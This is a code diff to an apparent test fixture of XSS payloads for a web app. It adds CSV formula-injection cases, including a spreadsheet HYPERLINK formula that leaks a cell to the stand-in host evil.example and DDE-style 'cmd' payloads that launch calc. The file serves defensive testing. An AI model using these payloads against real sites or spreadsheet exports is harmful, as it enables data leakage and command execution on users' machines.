@@ -2,7 +2,9 @@
  * Payloads that, if they ever reached the page as markup, would run script — each one sets
  * `window.__pwned` to its own name (or opens a dialog), so a test can tell which got through:
  * script tags, event handlers, `javascript:` URLs, attribute breakouts, SVG and MathML,
- * htmx attributes, mutation-XSS shapes and JSON that closes a `<script>`.
+ * htmx attributes, mutation-XSS shapes and JSON that closes a `<script>`. The last ones aim at
+ * the CSV export: formulas a spreadsheet would compute (a leading =, +, -, @, tab or CR) and
+ * quotes and line breaks that would forge a record if a cell were not quoted.
  */
 export const XSS_PAYLOADS: readonly string[] = [
   `<script>window.__pwned='script'</script>`,
@@ -40,4 +42,11 @@ export const XSS_PAYLOADS: readonly string[] = [
   `</textarea></style></noscript><script>window.__pwned='close-everything'</script>`,
   `<!--<img src=x onerror=window.__pwned='comment'>-->`,
   `\u2028\u2029<script>window.__pwned='line-separators'</script>`,
+  `=HYPERLINK("https://evil.example/?leak="&A1,"<b onmouseover=window.__pwned='csv-hyperlink'>Open</b>")`,
+  `+cmd|' /C calc'!A0`,
+  `-2+3+cmd|' /C calc'!A0`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `\t=1+1<img src=x onerror=window.__pwned='tab-formula'>`,
+  `\r=1+1<img src=x onerror=window.__pwned='cr-formula'>`,
+  `","=1+1",\r\nforged,record,"<script>window.__pwned='csv-breakout'</script>`,
 ];
